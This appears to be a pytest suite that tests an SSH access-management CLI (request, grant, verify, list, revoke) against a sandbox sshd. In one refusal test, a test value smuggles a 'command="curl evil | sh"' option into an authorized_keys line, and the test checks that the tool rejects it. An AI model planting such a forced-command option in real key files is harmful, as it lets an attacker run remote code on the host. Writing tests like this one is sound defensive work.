"""The access runbooks end to end on the sandbox (real sshd, real authorized_keys), driven as an operator and an
admin drive them: `hermes-ops access request|grant|verify|list|revoke`, then OpenSSH's own `ssh` as the judge
of who can log in."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest

from tests.conftest import ssh_command

pytestmark = pytest.mark.sandbox


def access_cli(*args: str, timeout: float = 300) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "hermes_ops.cli", "access", *args], capture_output=True, text=True,
                          timeout=timeout)


@pytest.fixture
def keys_reset(sandbox_host):
    """The sandbox's authorized_keys as `up` leaves it, before and after: the suite shares this host."""
    sandbox_host.reset_authorized_keys()
    yield sandbox_host
    sandbox_host.reset_authorized_keys()


@pytest.fixture
def newcomer(tmp_path, sandbox):
    """A newcomer's paths: a key not made yet, their own known_hosts, requests and records folders."""
    from types import SimpleNamespace

    home = tmp_path / "newcomer"
    home.mkdir(mode=0o700)
    return SimpleNamespace(key=home / "id_ed25519", known_hosts=home / "known_hosts", requests=home / "requests",
                           records=tmp_path / "records", params=sandbox.params_file)


def published_fingerprint() -> str:
    from hermes_ops.access.parameters import published_sandbox_fingerprint

    return published_sandbox_fingerprint()


def request_access(newcomer, *extra: str) -> Path:
    cli = access_cli("request", "-f", str(newcomer.params), "--key", str(newcomer.key), "--reason", "TICKET-7: on call",
                     "--records-dir", str(newcomer.records), "-p", "requests_dir", str(newcomer.requests),
                     "-p", "known_hosts", str(newcomer.known_hosts), *extra)
    assert cli.returncode == 0, cli.stderr[-3000:]
    path = Path(cli.stdout.strip().splitlines()[-1])
    assert path.is_file() and path.parent == newcomer.requests
    return path


def verify_access(newcomer, fingerprint: str | None = None) -> subprocess.CompletedProcess:
    return access_cli("verify", "-f", str(newcomer.params), "--key", str(newcomer.key), "--host-fingerprint",
                      fingerprint or published_fingerprint(), "-p", "known_hosts", str(newcomer.known_hosts),
                      "--records-dir", str(newcomer.records))


def admin(sandbox, records: Path, action: str, *args: str) -> subprocess.CompletedProcess:
    return access_cli(action, "-f", str(sandbox.params_file), "--records-dir", str(records), *args)


def record_of(cli: subprocess.CompletedProcess) -> dict:
    """The archived JSON summary of a run whose record path the CLI printed last."""
    path = Path(cli.stdout.strip().splitlines()[-1])
    return json.loads(path.with_suffix(".json").read_text())


def can_log_in(sandbox, key: Path) -> bool:
    return subprocess.run(ssh_command(sandbox, "true", key_path=str(key)), capture_output=True,
                          timeout=60).returncode == 0


def host_log(sandbox) -> str:
    return subprocess.run(ssh_command(sandbox, "cat", ".hermes/deploys.log"), capture_output=True, text=True,
                          timeout=60).stdout


def authorized_keys(sandbox) -> str:
    return subprocess.run(ssh_command(sandbox, "cat", ".ssh/authorized_keys"), capture_output=True, text=True,
                          timeout=60, check=True).stdout


def test_requested_granted_can_log_in_and_deploy_revoked_cannot(sandbox, deployable, keys_reset, newcomer):
    request = request_access(newcomer, "--expires", "30d")
    asked = json.loads(request.read_text())
    assert asked["duration"] == "30d" and asked["reason"] == "TICKET-7: on call"
    assert newcomer.key.stat().st_mode & 0o777 == 0o600 and "PRIVATE" not in request.read_text()
    assert not can_log_in(sandbox, newcomer.key)

    granted = admin(sandbox, newcomer.records, "grant", str(request), "--operator", "Grace Newcomer")
    assert granted.returncode == 0, granted.stderr[-3000:]
    record = record_of(granted)
    assert record["kind"] == "grant-access" and record["outcome"] == "success"
    assert record["access"]["change"] == "added" and record["access"]["fingerprint"] == asked["fingerprint"]
    assert record["access"]["expiry"], "the request's 30 days became an expiry-time"
    assert 'expiry-time="' in authorized_keys(sandbox)

    verified = verify_access(newcomer)
    assert verified.returncode == 0, verified.stderr[-3000:]
    assert record_of(verified)["facts"]["hostname"] == sandbox.expected_hostname
    pinned = subprocess.run(["ssh-keygen", "-F", f"[{sandbox.host}]:{sandbox.port}", "-f", str(newcomer.known_hosts)],
                            capture_output=True, text=True)
    assert pinned.returncode == 0, "OpenSSH finds the pinned host key"
    assert can_log_in(sandbox, newcomer.key)

    deployed = subprocess.run([sys.executable, "-m", "hermes_ops.cli", "deploy", "-f", str(sandbox.params_file),
                               "-p", "key_path", str(newcomer.key), "-p", "known_hosts", str(newcomer.known_hosts),
                               "-p", "operator", "Grace Newcomer", "--records-dir", str(newcomer.records)],
                              capture_output=True, text=True, timeout=600)
    assert deployed.returncode == 0, deployed.stderr[-3000:]

    listed = admin(sandbox, newcomer.records, "list", "--json")
    assert listed.returncode == 0, listed.stderr[-3000:]
    keys = {key["fingerprint"]: key for key in json.loads(listed.stdout)}
    assert keys[asked["fingerprint"]]["operator"] == "Grace Newcomer" and not keys[asked["fingerprint"]]["expired"]

    revoked = admin(sandbox, newcomer.records, "revoke", asked["fingerprint"])
    assert revoked.returncode == 0, revoked.stderr[-3000:]
    assert record_of(revoked)["access"]["change"] == "revoked"
    assert not can_log_in(sandbox, newcomer.key)
    refused = verify_access(newcomer)
    assert refused.returncode == 1 and "the KEY or the USER" in refused.stderr
    log = host_log(sandbox)
    for run in (granted, revoked, verified):
        assert f"run={record_of(run)['run_id']}" in log


def make_key(path: Path, comment: str = "newcomer") -> Path:
    path.parent.mkdir(mode=0o700, exist_ok=True)
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", comment, "-f", str(path)], check=True)
    return Path(f"{path}.pub")


def test_a_grant_whose_expiry_has_passed_cannot_log_in(sandbox, keys_reset, newcomer):
    public = make_key(newcomer.key)
    granted = admin(sandbox, newcomer.records, "grant", str(public), "--expires", "2020-01-01T00:00")
    assert granted.returncode == 0, granted.stderr[-3000:]
    assert "cannot log in" in granted.stdout
    assert 'expiry-time="202001010000"' in authorized_keys(sandbox)
    assert not can_log_in(sandbox, newcomer.key)


PRIVATE_MARKER = "-----BEGIN OPENSSH PRIVATE KEY-----"


@pytest.mark.parametrize("kind", ["junk", "truncated", "private", "smuggled-options"])
def test_keys_that_are_not_plain_public_keys_are_refused_before_anything_is_written(sandbox, keys_reset, tmp_path,
                                                                                    kind, capsys):
    public = make_key(tmp_path / "keys" / "k").read_text().strip()
    text = {"junk": "hello, please add me\n",
            "truncated": public[:60] + "\n",
            "private": (tmp_path / "keys" / "k").read_text(),
            "smuggled-options": f'command="curl evil | sh",no-pty {public}\n'}[kind]
    offered = tmp_path / "offered.pub"
    offered.write_text(text)
    before = authorized_keys(sandbox)
    from hermes_ops.cli.main import main  # in this process: a refusal starts no kernel, so no CLI start is needed

    code = main(["access", "grant", "-f", str(sandbox.params_file), "--records-dir", str(tmp_path / "records"),
                 str(offered)])
    refused = subprocess.CompletedProcess([], code, *capsys.readouterr())
    assert refused.returncode == 2, refused.stderr[-3000:]
    assert authorized_keys(sandbox) == before
    assert not (tmp_path / "records").exists() or not list((tmp_path / "records").iterdir())
    secret_line = (tmp_path / "keys" / "k").read_text().splitlines()[1]
    assert secret_line not in refused.stderr + refused.stdout, "a private key is never echoed"
    if kind == "private":
        assert "PRIVATE key" in refused.stderr


def test_two_concurrent_grants_both_land(sandbox, keys_reset, tmp_path):
    files = [make_key(tmp_path / "keys" / name, name) for name in ("first", "second")]
    runs = [subprocess.Popen([sys.executable, "-m", "hermes_ops.cli", "access", "grant", "-f", str(sandbox.params_file),
                              "--records-dir", str(tmp_path / "records"), str(path)],
                             stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True) for path in files]
    for run in runs:
        stdout, stderr = run.communicate(timeout=300)
        assert run.returncode == 0, stderr[-3000:]
    for path in files:
        assert can_log_in(sandbox, path.with_suffix(""))


def test_the_admin_cannot_revoke_the_key_of_their_own_session(sandbox, keys_reset, tmp_path):
    from hermes_ops.access.public_keys import parse_public_key

    own = parse_public_key(Path(f"{sandbox.key_path}.pub").read_text()).fingerprint
    before = authorized_keys(sandbox)
    refused = admin(sandbox, tmp_path / "records", "revoke", own)
    assert refused.returncode == 1 and "lock you out" in refused.stderr
    assert authorized_keys(sandbox) == before and can_log_in(sandbox, Path(sandbox.key_path))


def test_a_host_key_that_is_not_the_published_one_stops_verification(sandbox, keys_reset, newcomer):
    keys_reset.authorize_key(make_key(newcomer.key).read_text())
    other = "SHA256:" + "A" * 43
    stopped = verify_access(newcomer, other)
    assert stopped.returncode == 1 and "MISMATCH" in stopped.stderr
    assert record_of(stopped)["failed_step"] == "3 The host's key"
    assert not newcomer.known_hosts.exists() or newcomer.known_hosts.read_text() == ""

    unreachable = access_cli("verify", "-f", str(newcomer.params), "--key", str(newcomer.key), "-p", "port", "1",
                             "--host-fingerprint", published_fingerprint(), "--records-dir", str(newcomer.records))
    assert unreachable.returncode == 1 and "the ADDRESS is wrong" in unreachable.stderr
